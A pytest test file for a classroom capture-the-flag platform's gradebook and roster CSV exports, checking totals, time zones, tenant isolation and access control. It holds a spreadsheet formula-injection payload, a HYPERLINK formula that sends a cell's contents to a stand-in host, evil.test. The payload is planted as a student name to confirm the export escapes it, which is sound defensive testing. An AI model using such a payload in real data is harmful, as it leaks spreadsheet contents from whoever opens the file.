"""The roster's CSV export with names (classroom.resources) and the gradebook (classroom.gradebook).

Both are read by a person in a spreadsheet: names, words instead of codes, times in the
class's zone with its offset, nothing a spreadsheet would run as a formula, and only
this tenant's students. A gradebook row adds up to the student's leaderboard points.
"""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.conf import settings as django_settings
from django.db import connection
from django.test.utils import CaptureQueriesContext

from challenges.factories import ProjectFactory
from challenges.models import Hint
from scoring import services
from scoring.hints import hint_unlock
from scoring.models import Leaderboard, Submission
from tenants.factories import StudentFactory

pytestmark = pytest.mark.usefixtures("fast_hashing")

EXPORT = "/admin/tenants/user/export/"
GRADEBOOK = "/admin/tenants/user/gradebook.csv"
HYPERLINK = '=HYPERLINK("https://evil.test/?leak="&A1,"Your grades")'


@pytest.fixture
def tenant(tenant):
    tenant.time_zone = "Europe/Paris"
    tenant.save()
    return tenant


@pytest.fixture
def klass(tenant, other_tenant, instructor):
    """Three challenges and four students of Alpha, one student of Beta.

    Ada: Cookie Monster (100) with a hint of 30 unlocked (70), and the write-up graded 50/100 (40 of 80).
    Bob: Cookie Monster (100); his write-up approved at 50 then at 100: the better grade counts (80).
    Cy: a wrong flag only. Dee (=HYPERLINK…): nothing.
    """
    cookie = ProjectFactory(tenant=tenant, name="Cookie Monster", flag="FLAG{a}", points=100)
    report = ProjectFactory(tenant=tenant, name="Report the XSS", points=80)
    ProjectFactory(tenant=tenant, name="+SUM(1)", points=10)  # nobody scored it
    ProjectFactory(tenant=tenant, name="Draft", points=500, is_published=False)  # nobody scored it: no column
    hint = Hint.objects.create(tenant=tenant, project=cookie, position=1, text="Look at the cookies", cost=30)
    ada = StudentFactory(tenant=tenant, first_name="Ada", last_name="Lovelace", email="ada@alpha.test")
    bob = StudentFactory(tenant=tenant, first_name="Bob", last_name="Babbage", email="bob@alpha.test")
    cy = StudentFactory(tenant=tenant, first_name="Cy", last_name="Curie", email="cy@alpha.test")
    dee = StudentFactory(tenant=tenant, first_name=HYPERLINK, last_name="Dijkstra", email="dee@alpha.test")
    hint_unlock(user=ada, hint=hint)
    services.submission_create(user=ada, project=cookie, flag="FLAG{a}")
    graded = services.submission_create(user=ada, project=report, writeup="Reflected XSS in the search box.")
    services.submission_grade(submission=graded, status="APPROVED", score=50, grader=instructor)
    services.submission_create(user=bob, project=cookie, flag="FLAG{a}")
    first = services.submission_create(user=bob, project=report, writeup="A first try.")
    services.submission_grade(submission=first, status="APPROVED", score=50, grader=instructor)
    better = services.submission_create(user=bob, project=report, writeup="A better one.")
    services.submission_grade(submission=better, status="APPROVED", score=100, grader=instructor)
    services.submission_create(user=cy, project=cookie, flag="wrong")
    Submission.objects.filter(user=cy).update(submitted_at=datetime(2025, 1, 10, 8, 30, tzinfo=UTC))
    Submission.objects.filter(user=bob).update(submitted_at=datetime(2025, 7, 1, 22, 15, tzinfo=UTC))
    theirs = StudentFactory(tenant=other_tenant, first_name="Olga", last_name="Other", email="olga@beta.test")
    other_project = ProjectFactory(tenant=other_tenant, name="Beta Only", flag="FLAG{b}")
    services.submission_create(user=theirs, project=other_project, flag="FLAG{b}")
    return {"ada": ada, "bob": bob, "cy": cy, "dee": dee, "cookie": cookie, "report": report}


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def gradebook(client) -> list[list[str]]:
    response = client.get(GRADEBOOK)
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    return read_csv(b"".join(response.streaming_content))


def export(client, query=""):
    """The roster export as CSV with every field ticked; the rows, header first."""
    form = client.get(f"{EXPORT}{query}").context["form"]
    ticked = {name: "on" for name in form.fields if "_" in name and name != "export_items"}
    data = {"format": "0", "resource": "0", **ticked}
    response = client.post(f"{EXPORT}{query}", data)
    assert response["Content-Type"].startswith("text/csv"), (response.status_code, response.context["form"].errors)
    return read_csv(response.content)


def by_email(rows, column="E-mail"):
    index = rows[0].index(column)
    return {row[index]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}


# --- the gradebook ----------------------------------------------------------------------


def test_a_row_per_student_by_last_name_and_a_column_per_challenge(klass, tenant, instructor, client_for):
    rows = gradebook(client_for(tenant, instructor))

    assert rows[0] == [
        "Last name",
        "First name",
        "E-mail",
        "Active",
        "'+SUM(1)",  # a challenge's name is a cell too
        "Cookie Monster",
        "Report the XSS",
        "Total",
        "Last activity",
    ]
    assert [row[2] for row in rows[1:]] == ["bob@alpha.test", "cy@alpha.test", "dee@alpha.test", "ada@alpha.test"]


def test_a_challenge_counts_what_the_leaderboard_counts(klass, tenant, instructor, client_for):
    rows = by_email(gradebook(client_for(tenant, instructor)))

    # Ada: 100 less a 30-point hint; 50/100 of 80. Bob: 100; his better grade of the write-up.
    assert [rows["ada@alpha.test"][c] for c in ("Cookie Monster", "Report the XSS", "Total")] == ["70", "40", "110"]
    assert [rows["bob@alpha.test"][c] for c in ("Cookie Monster", "Report the XSS", "Total")] == ["100", "80", "180"]
    assert [rows["cy@alpha.test"][c] for c in ("'+SUM(1)", "Cookie Monster", "Total")] == ["0", "0", "0"]


def test_every_total_is_the_students_leaderboard_points(klass, tenant, instructor, client_for):
    rows = by_email(gradebook(client_for(tenant, instructor)))
    board = dict(Leaderboard.objects.for_tenant(tenant).values_list("user__email", "points"))

    assert board == {"ada@alpha.test": 110, "bob@alpha.test": 180}
    assert {email: int(row["Total"]) for email, row in rows.items()} == {
        "ada@alpha.test": 110,
        "bob@alpha.test": 180,
        "cy@alpha.test": 0,
        "dee@alpha.test": 0,
    }


def test_points_on_an_unpublished_challenge_get_a_column_that_says_so(klass, tenant, instructor, client_for):
    cookie = klass["cookie"]
    cookie.is_published = False
    cookie.save()

    rows = gradebook(client_for(tenant, instructor))

    assert "Cookie Monster (unpublished)" in rows[0]
    totals = by_email(rows)
    assert totals["bob@alpha.test"]["Cookie Monster (unpublished)"] == "100"
    assert totals["bob@alpha.test"]["Total"] == "180"  # the columns still add up to it


def test_names_and_times_read_as_a_person_writes_them(klass, tenant, instructor, client_for):
    rows = by_email(gradebook(client_for(tenant, instructor)))

    assert rows["cy@alpha.test"]["Last activity"] == "2025-01-10T09:30:00+01:00"  # Paris in winter
    assert rows["bob@alpha.test"]["Last activity"] == "2025-07-02T00:15:00+02:00"  # and in summer
    assert rows["dee@alpha.test"]["Last activity"] == ""
    assert (rows["dee@alpha.test"]["First name"], rows["dee@alpha.test"]["Last name"]) == ("'" + HYPERLINK, "Dijkstra")
    assert rows["ada@alpha.test"]["Active"] == "yes"


def test_another_tenants_students_and_challenges_are_never_in_it(klass, tenant, instructor, client_for):
    rows = gradebook(client_for(tenant, instructor))

    assert "Beta Only" not in rows[0]
    assert not any("olga" in cell for row in rows for cell in row)


def test_staff_are_not_rows_of_the_gradebook(klass, tenant, instructor, tenant_admin, client_for):
    emails = [row[2] for row in gradebook(client_for(tenant, tenant_admin))[1:]]

    assert "instructor@alpha.test" not in emails and "admin@alpha.test" not in emails
    assert len(emails) == 4


def test_the_file_is_named_after_the_class(klass, tenant, instructor, client_for):
    response = client_for(tenant, instructor).get(GRADEBOOK)

    assert response["Content-Disposition"].startswith('attachment; filename="gradebook-alpha-')


def test_a_student_cannot_download_the_gradebook(klass, tenant, client_for):
    response = client_for(tenant, klass["ada"]).get(GRADEBOOK)

    assert response.status_code == 302 and "/login/" in response["Location"]


def test_an_anonymous_visitor_is_sent_to_the_login_page(klass, tenant, client_for):
    response = client_for(tenant).get(GRADEBOOK)

    assert response.status_code == 302 and "/login/" in response["Location"]


# the tenant, session, user, both permission reads, then four: points per challenge, the
# challenges, last submissions, the students; with Redis the session comes from the cache
GRADEBOOK_QUERIES = 9 - (django_settings.SESSION_ENGINE == "vulhub.sessions")


def test_the_gradebook_is_read_in_the_same_queries_at_any_size(klass, tenant, instructor, client_for):
    client = client_for(tenant, instructor)
    gradebook(client)

    with CaptureQueriesContext(connection) as small:
        gradebook(client)
    for n in range(30):
        student = StudentFactory(tenant=tenant, last_name=f"Zed {n:02}")
        services.submission_create(user=student, project=klass["cookie"], flag="FLAG{a}" if n % 2 else "no")
    with CaptureQueriesContext(connection) as big:
        rows = gradebook(client)

    assert len(rows) == 1 + 4 + 30
    statements = [q["sql"] for q in big.captured_queries if not q["sql"].startswith(("SAVEPOINT", "RELEASE"))]
    assert len(small.captured_queries) == len(big.captured_queries)
    assert len(statements) == GRADEBOOK_QUERIES, "\n".join(statements)


# --- the roster's export with names -------------------------------------------------------


def test_the_roster_export_has_names_words_and_times_with_their_offset(klass, tenant, instructor, client_for):
    rows = export(client_for(tenant, instructor))

    assert rows[0] == [
        "First name",
        "Last name",
        "E-mail",
        "Role",
        "Points",
        "Rank",
        "Solves",
        "Write-ups waiting",
        "Last activity",
        "Active",
    ]
    people = by_email(rows)
    assert people["bob@alpha.test"] == {
        "First name": "Bob",
        "Last name": "Babbage",
        "E-mail": "bob@alpha.test",
        "Role": "Student",
        "Points": "180",
        "Rank": "1",
        "Solves": "2",
        "Write-ups waiting": "0",
        "Last activity": "2025-07-02T00:15:00+02:00",
        "Active": "yes",
    }
    assert people["cy@alpha.test"]["Rank"] == "" and people["cy@alpha.test"]["Points"] == "0"
    assert people["cy@alpha.test"]["Last activity"] == "2025-01-10T09:30:00+01:00"
    assert people["instructor@alpha.test"]["Role"] == "Instructor"


def test_the_roster_export_is_formula_safe(klass, tenant, instructor, client_for):
    dee = by_email(export(client_for(tenant, instructor)))["dee@alpha.test"]

    assert (dee["First name"], dee["Last name"]) == ("'" + HYPERLINK, "Dijkstra")


def test_the_roster_export_follows_the_lists_filters(klass, tenant, instructor, client_for):
    rows = export(client_for(tenant, instructor), "?progress=not_started")

    assert sorted(by_email(rows)) == ["dee@alpha.test"]


def test_the_roster_export_holds_this_tenants_people_only(klass, tenant, tenant_admin, client_for):
    people = by_email(export(client_for(tenant, tenant_admin)))

    assert "olga@beta.test" not in people
    assert {"ada@alpha.test", "bob@alpha.test", "admin@alpha.test"} <= set(people)


def test_a_student_cannot_export_the_roster(klass, tenant, client_for):
    response = client_for(tenant, klass["ada"]).get(EXPORT)

    assert response.status_code == 302 and "/login/" in response["Location"]
